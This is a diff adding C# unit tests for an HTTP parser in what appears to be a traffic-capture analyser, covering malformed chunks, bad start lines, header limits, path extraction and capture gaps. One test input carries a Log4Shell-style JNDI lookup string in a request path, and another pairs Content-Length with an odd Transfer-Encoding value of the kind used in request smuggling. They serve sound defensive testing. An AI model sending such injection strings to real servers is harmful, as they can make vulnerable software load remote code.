@@ -15,6 +15,56 @@ public sealed class HttpParserTests
     private const string Get = "GET /a?b=1 HTTP/1.1\r\nHost: www.example\r\n\r\n";
     private const string Ok = "HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Type: text/plain\r\n\r\nhello";
 
+    [Theory]
+    [InlineData("POST /a HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n", "bad chunk size")]
+    [InlineData("POST /a HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nabc\r\n0\r\n\r\n", "bad chunk size")]
+    [InlineData("GET /a HTTP/1.1\r\n\r\n@@@bad\r\n\r\n", "not a start line")]
+    [InlineData("GET /a HTTP/1.1\r\n\r\n@@@bad line without end of head\r\n", "not a start line")]
+    public void What_breaks_the_format_is_stated_and_does_not_hide_the_next_request(string first, string rule)
+    {
+        foreach (int size in (int[])[1460, 7, 1])
+        {
+            void Talk(TcpConversation c) => c.SegmentSize(size).Says(first + Get).Replies(Ok + Ok).Closes();
+            Assert.Equal(["/a", "/a?b=1"], Transactions(Talk).OrderBy(t => t.Depth).Select(t => t.Request!.Target));
+            Assert.Equal([rule], Anomalies(Talk));
+        }
+    }
+
+    [Theory]
+    [InlineData("http://www.example/a/b?c", "/a/b")]
+    [InlineData("http://www.example", "/")]
+    [InlineData("/a/${jndi:ldap://192.0.2.1/b}", "/a/${jndi:ldap://192.0.2.1/b}")]
+    [InlineData("/a?url=http://www.example/b", "/a")]
+    public void The_path_is_the_target_without_authority_and_query(string target, string path) => Assert.Equal(path, HttpFields.PathOf(target));
+
+    [Fact]
+    public void Chunked_is_an_element_not_an_ending()
+    {
+        HttpTransaction t = Only(c => c.Says("POST /a HTTP/1.1\r\nContent-Length: 3\r\nTransfer-Encoding: xchunked\r\n\r\nabc").Replies(Ok).Closes());
+        Assert.Equal((3L, true), (t.Request!.BodyBytes, t.Request.IsComplete));
+    }
+
+    [Fact]
+    public void What_a_message_has_beyond_what_is_kept_is_stated()
+    {
+        static Action<TcpConversation> Says(string request) => c => c.Says(request).Replies(Ok).Closes();
+        Assert.Equal(["too many header fields"], Anomalies(Says("GET / HTTP/1.1\r\n" + string.Concat(Enumerable.Repeat("a: b\r\n", 257)) + "\r\n")));
+        Assert.Equal(["request target cut"], Anomalies(Says($"GET /{new string('a', 9000)} HTTP/1.1\r\n\r\n")));
+        Assert.Equal(["header field cut"], Anomalies(Says($"GET / HTTP/1.1\r\nA: {new string('a', 9000)}\r\n\r\n")));
+        Assert.Empty(Anomalies(Says("GET / HTTP/1.1\r\n" + string.Concat(Enumerable.Repeat("a: b\r\n", 256)) + "\r\n")));
+    }
+
+    // Behind a gap a body goes on; a line of it may look like a start line.
+    [Fact]
+    public void Lines_behind_a_gap_are_not_taken_for_requests()
+    {
+        List<HttpTransaction> all = Transactions(c => c.Says("POST /a HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n").Lost(100).Says("text\nGET /in-the-text HTTP/1.1\r\n\r\n").Replies(Ok).Closes());
+        Assert.Equal(["/a"], all.Select(t => t.Request!.Target));
+    }
+
+    private static IEnumerable<string> Anomalies(Action<TcpConversation> talk)
+        => Analysis.Records<AnomalySeen>(Capture.New().Tcp(Client, Server, talk).ToPcap()).Select(a => a.Rule);
+
     [Fact]
     public void A_request_and_its_response_are_one_transaction()
     {
